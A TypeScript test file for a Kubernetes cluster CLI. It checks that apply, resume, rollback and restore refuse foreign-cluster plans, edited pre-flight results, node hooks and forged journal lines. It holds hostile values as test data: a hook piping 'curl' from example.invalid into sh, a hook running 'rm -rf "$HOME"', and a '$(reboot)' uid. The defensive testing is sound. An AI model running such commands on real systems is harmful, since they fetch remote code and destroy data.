/**
 * Adversarial plans and state for apply/resume/rollback/restore: another cluster's plan, an unbound plan without
 * --accept-unbound-plan, pre-flight results edited from fail to pass, a node hook without --allow-hook, journals
 * with valid but foreign lines. Each is refused with its documented exit code and one error line, before the
 * Lease is taken or anything is written.
 *
 * The cases that need a live cluster talk to a small API server in this process that serves the objects of a
 * bundled example (as `kubectl get` would) and namespace kube-system with a known uid: the live read is the real
 * discovery code, over HTTP on 127.0.0.1.
 */
import http from 'node:http';
import { join } from 'node:path';
import { after } from 'node:test';
import { readInventoryFiles } from '../../../src/cluster/files.ts';
import type { KubeObject } from '../../../src/cluster/types.ts';
import { planId } from '../../../src/cli/commands/apply.ts';
import { closeAll, httpServer } from '../kube-servers.ts';
import { corpus, ROOT, type BadInputCase } from './harness.ts';
import { FAILED_PLAN, KUBECONFIG, LIVE, mutate, NODE_PLAN, SERVICE_PLAN } from './plan-fixtures.ts';

after(() => closeAll());

const KS_UID = '6f1c3a52-9d1e-4c1b-a3f5-0c2d7e9b4a11';
const OTHER_UID = '0b7e4d20-51aa-4f0e-8b1d-3e6c9a2f7d55';

/** An API server serving `example`'s objects read-only (no API groups: no ServiceCIDR API, no Calico). */
async function exampleCluster(example: string, version: string): Promise<string> {
  const inv = await readInventoryFiles([join(ROOT, 'examples', example)]);
  const of = (kind: string, ns?: string) => inv.objects.filter((o: KubeObject) => o.kind === kind && (ns === undefined || o.metadata?.namespace === ns));
  const handler = (req: http.IncomingMessage, res: http.ServerResponse) => {
    const path = (req.url ?? '').split('?')[0]!;
    const send = (code: number, body: unknown) => { res.writeHead(code, { 'Content-Type': 'application/json' }); res.end(JSON.stringify(body)); };
    const list = (items: KubeObject[]) => send(200, { kind: 'List', apiVersion: 'v1', metadata: { resourceVersion: '1' }, items });
    if (req.method !== 'GET') return send(405, { kind: 'Status', apiVersion: 'v1', status: 'Failure', reason: 'MethodNotAllowed', code: 405, message: 'read-only' });
    if (path === '/version') return send(200, { major: '1', minor: version.split('.')[1], gitVersion: version });
    if (path === '/apis') return send(200, { kind: 'APIGroupList', groups: [] });
    if (path === '/api/v1/namespaces/kube-system') return send(200, { kind: 'Namespace', apiVersion: 'v1', metadata: { name: 'kube-system', uid: KS_UID } });
    if (path === '/api/v1/nodes') return list(of('Node'));
    if (path === '/api/v1/services') return list(of('Service'));
    if (path === '/api/v1/pods') return list(of('Pod'));
    if (path === '/api/v1/namespaces/kube-system/configmaps') return list(of('ConfigMap', 'kube-system'));
    return send(404, { kind: 'Status', apiVersion: 'v1', status: 'Failure', reason: 'NotFound', code: 404, message: `${path} not found` });
  };
  const port = await httpServer(handler);
  return `apiVersion: v1
kind: Config
clusters:
- name: fake
  cluster:
    server: http://127.0.0.1:${port}
users:
- name: u
  user:
    token: kr-bound-corpus-token
contexts:
- name: fake
  context: {cluster: fake, user: u}
current-context: fake
`;
}

const KOPS = await exampleCluster('kops-tailscale', 'v1.29.3');
const KUBEADM = await exampleCluster('kubeadm-exhausted', 'v1.20.7');
const bind = (uid: string) => (d: any) => { d.metadata.cluster = { uid, server: 'https://api.elsewhere.example:6443' }; };
const OTHER_CLUSTER_PLAN = mutate(SERVICE_PLAN, bind(OTHER_UID));
/** The failed plan bound to the fake kubeadm cluster, its failed check edited to pass. */
const EDITED = mutate(FAILED_PLAN, (d) => {
  bind(KS_UID)(d);
  for (const c of d.preflight) if (c.status === 'fail') { c.status = 'pass'; c.message = 'all good'; }
});
const HOOK_PLAN = mutate(NODE_PLAN, (d) => { d.spec.podCIDR.node.hook = 'curl -s https://example.invalid/x | sh'; });

const cases: BadInputCase[] = [];
const at = (kubeconfig: string, plan: string, extra: Record<string, string> = {}) => ({ kubeconfig, 'plan.yaml': plan, ...extra });

// ---- another cluster's plan, and unbound plans ----
for (const cmd of ['apply', 'resume', 'rollback', 'restore'] as const) {
  cases.push({
    name: `${cmd}: a plan bound to another cluster`, args: [cmd, '$D/plan.yaml', '--yes', ...LIVE].filter((a) => cmd === 'apply' || cmd === 'resume' || a !== '--yes'),
    files: at(KOPS, OTHER_CLUSTER_PLAN), code: 2,
    message: new RegExp(`the plan was written for another cluster: kube-system uid ${OTHER_UID} \\(https://api\\.elsewhere\\.example:6443\\), and this cluster's is ${KS_UID}`),
  });
  cases.push({
    name: `${cmd}: an unbound plan without --accept-unbound-plan`, args: [cmd, '$D/plan.yaml', ...LIVE],
    files: at(KOPS, SERVICE_PLAN), code: 2, message: /the plan records no cluster identity .*pass --accept-unbound-plan \(nothing was changed\)/,
  });
}
cases.push(
  { name: 'apply: another cluster\'s plan is refused even with --accept-unbound-plan', args: ['apply', '$D/plan.yaml', '--accept-unbound-plan', ...LIVE],
    files: at(KOPS, OTHER_CLUSTER_PLAN), code: 2, message: /written for another cluster/ },
  { name: 'apply: a forged cluster uid that is not a uid', args: ['apply', '$D/plan.yaml', ...LIVE],
    files: at(KOPS, mutate(SERVICE_PLAN, (d) => { d.metadata.cluster = { uid: '$(reboot)' }; })), code: 3, message: /metadata\.cluster\.uid: "\$\(reboot\)" is not a uid/ },
);

// ---- pre-flight results edited in the file: apply decides from the live cluster ----
cases.push(
  { name: 'apply: pre-flight edited from fail to pass (bound plan)', args: ['apply', '$D/plan.yaml', '--yes', ...LIVE],
    files: at(KUBEADM, EDITED), code: 6, message: /^pre-flight check servicecidr-api fails against the live cluster: Kubernetes v1\.20\.7 has no ServiceCIDR API.*; nothing was changed$/ },
);

// ---- executable content ----
cases.push(
  { name: 'apply: a node hook without --allow-hook', args: ['apply', '$D/plan.yaml', '--yes', ...LIVE], files: { kubeconfig: KUBECONFIG, 'plan.yaml': HOOK_PLAN }, code: 2,
    message: /the plan runs a node hook through \/bin\/sh for each re-registered node: "curl -s https:\/\/example\.invalid\/x \| sh"; review it, then pass --allow-hook/ },
  { name: 'resume: a node hook without --allow-hook', args: ['resume', '$D/plan.yaml', ...LIVE], files: { kubeconfig: KUBECONFIG, 'plan.yaml': HOOK_PLAN }, code: 2, message: /--allow-hook/ },
  { name: 'apply: a multi-line node hook is shown on one line', args: ['apply', '$D/plan.yaml', ...LIVE],
    files: { kubeconfig: KUBECONFIG, 'plan.yaml': mutate(NODE_PLAN, (d) => { d.spec.podCIDR.node.hook = 'true\nrm -rf "$HOME"'; }) }, code: 2, message: /node hook .*: "true\\nrm -rf \\"\$HOME\\""/ },
);

// ---- journals with valid but foreign lines ----
const line = (run: string, event: string, step?: string) => `${JSON.stringify({ ts: '2026-01-01T00:00:00.000Z', run, event, ...(step ? { step } : {}) })}\n`;
const sid = planId(SERVICE_PLAN);
cases.push(
  { name: 'rollback: a journal line of another plan\'s run', args: ['rollback', '$D/plan.yaml', ...LIVE],
    files: { kubeconfig: KUBECONFIG, 'plan.yaml': SERVICE_PLAN, 'state/journal.jsonl': line(sid, 'run-start') + line('0123456789ab', 'step-done', 'move-dns') },
    code: 3, message: /journal .*journal\.jsonl: entry 2 was written by the run of another plan \("0123456789ab"\), not this plan's/ },
  { name: 'status: a journal line naming a step the plan does not have', args: ['status', '$D/plan.yaml', '--state-dir', '$D/state'],
    files: { 'plan.yaml': SERVICE_PLAN, 'state/journal.jsonl': line(sid, 'step-done', 'delete-everything') },
    code: 3, message: /entry 1 names step "delete-everything", which is not a step of this plan/ },
  { name: 'apply: a forged created line for a step-less object of another run', args: ['apply', '$D/plan.yaml', '--accept-unbound-plan', ...LIVE],
    files: { kubeconfig: KUBECONFIG, 'plan.yaml': SERVICE_PLAN, 'state/journal.jsonl': `${JSON.stringify({ ts: '2026-01-01T00:00:00.000Z', run: 'fedcba987654', event: 'created', objects: ['core/Service/kube-system/kube-dns@uid'] })}\n` },
    code: 3, message: /entry 1 was written by the run of another plan/ },
);

// a loaded machine starts the CLI from its sources slowly: these cases read a (fake) cluster, give them time
for (const c of cases) c.timeoutMs ??= 90_000;
corpus('bound plans, edited pre-flight, hooks, foreign journals', cases, 2);
